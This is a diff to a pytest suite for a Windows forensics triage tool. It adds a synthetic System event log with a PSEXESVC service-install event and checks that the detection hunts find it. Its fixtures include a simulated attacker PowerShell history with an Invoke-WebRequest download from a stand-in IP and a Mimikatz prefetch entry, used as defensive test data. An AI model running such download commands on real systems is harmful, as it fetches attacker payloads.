@@ -17,7 +17,7 @@ from pathlib import Path
 
 import pytest
 
-from collectors.evtx_writer import to_filetime
+from collectors.evtx_writer import Event, to_filetime, write_evtx
 from collectors.regf_writer import Key, write_hive
 from forensics import Case
 
@@ -242,6 +242,17 @@ TASK_XML = f"""<?xml version="1.0" encoding="UTF-16"?>
 </Task>
 """
 
+SVC_INSTALLED = T(2024, 3, 12, 9, 41, 7, 245000)  # System 7045, just before the service key was last written
+
+
+def system_events() -> list[Event]:
+    return [Event(7045, SVC_INSTALLED, "Service Control Manager", "System", "DC01.corp.example",
+                  qualifiers=16384, keywords=0x8080000000000000, user_sid=SID, record_id=8812,
+                  provider_guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}", event_source_name="Service Control Manager",
+                  event_data={"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
+                              "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"})]
+
+
 PS_HISTORY = "whoami /all\nInvoke-WebRequest http://203.0.113.7/m.zip -OutFile m.zip\nExpand-Archive m.zip\n"
 PS_MTIME = T(2024, 3, 12, 9, 42, 0)
 
@@ -270,6 +281,9 @@ def build_triage(root: Path, zone: bool = True) -> Path:
     (rb / "$IX7Q2KD.xlsx").write_bytes(struct.pack("<qqqi", 2, 48213, to_filetime(RECYCLED), len(name))
                                        + name.encode("utf-16-le"))
     (rb / "$RX7Q2KD.xlsx").write_bytes(bytes(48213))
+    logs = c / "Windows" / "System32" / "winevt" / "Logs"
+    logs.mkdir(parents=True)
+    write_evtx(logs / "System.evtx", system_events(), first_record_id=8812)
     pf = c / "Windows" / "Prefetch"
     pf.mkdir(parents=True)
     (pf / "MIMIKATZ.EXE-1A2B3C4D.pf").write_bytes(prefetch_v30(
@@ -325,13 +339,14 @@ def test_host_and_zone_come_from_the_registry(triage):
     assert facts == {"live": False, "host": HOST, "os": "windows", "tz": IST, "tz_source": "evidence_config",
                      "tz_from": "registry TimeZoneInformation"}
     t = _os_rows(case)
-    assert set(t.host) == {HOST}
+    assert set(t[t.source != "EVTX"].host) == {HOST}
+    assert set(t[t.source == "EVTX"].host) == {"DC01.corp.example"}  # an event names its own Computer
 
 
 def test_every_windows_family_and_its_row_counts(triage):
     case, rep = triage
     counts = _os_rows(case).groupby("artifact").size().to_dict()
-    assert counts == {"os:services": 2, "reg:runkeys": 2, "reg:userassist": 1, "reg:shimcache": 1, "reg:amcache": 2,
+    assert counts == {"evtx:System": 1, "os:services": 2, "reg:runkeys": 2, "reg:userassist": 1, "reg:shimcache": 1, "reg:amcache": 2,
                       "os:sam": 3, "os:users": 2, "os:tasks": 1, "os:recyclebin": 1, "os:prefetch": 3,
                       "powershell_history": 3}
     target = next(a for a in rep.artifacts if a["collector"] == "target")
@@ -354,11 +369,17 @@ def test_services(triage):
     assert set(s.source) == {"SERVICE"} and set(s.tz_source) == {"source_utc"}
 
 
-def test_service_install_hunt_finds_psexesvc(triage):
-    from forensics.hunt import service_installs
+def test_hunts_see_the_registry_and_the_event_log(triage):
+    from forensics.hunt import process_executions, service_installs
 
-    found = service_installs(triage[0].timeline().to_pandas())
-    assert sorted(found.service_name) == ["PSEXESVC", "W32Time"]
+    t = triage[0].timeline().to_pandas()
+    found = service_installs(t).sort_values("timestamp")
+    assert list(zip(found.timestamp, found.service_name, found.image_path)) == [
+        (pd_ts(SVC_W32TIME), "W32Time", "%SystemRoot%\\system32\\svchost.exe"),
+        (pd_ts(SVC_INSTALLED), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),  # System 7045
+        (pd_ts(SVC_PSEXEC), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")]  # the Services key
+    ran = process_executions(t)
+    assert sorted(ran.artifact) == ["os:prefetch"] * 3 + ["powershell_history"] * 3
 
 
 def test_run_keys_machine_and_user(triage):
